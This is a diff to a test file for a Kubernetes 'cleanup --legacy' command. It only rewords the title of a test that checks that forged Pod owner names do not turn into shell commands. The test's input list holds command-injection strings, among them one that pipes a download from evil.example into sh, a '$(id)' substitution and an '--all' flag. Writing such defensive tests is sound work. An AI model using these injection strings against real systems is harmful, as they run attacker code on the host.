@@ -568,7 +568,7 @@ test("P12 cleanup --legacy: objects of another API group are not mistaken for Ku
 
 // Anyone who may create a Pod can write any text into its ownerReferences. With a version that is
 // not served, the garbage collector keeps the Pod.
-test('cleanup --legacy: a controller that was not read, and a name that is no name, lead to no command', () => {
+test('cleanup --legacy: a controller that was not read, and a name that is not a name, lead to no command', () => {
   const names = ['web', 'web; curl -s evil.example/x | sh #', '$(id)', '--all']
   for (const name of names) {
     const forged = owned(pod('default', 'p', IMAGE, A), 'Deployment', name, 'apps/v9')
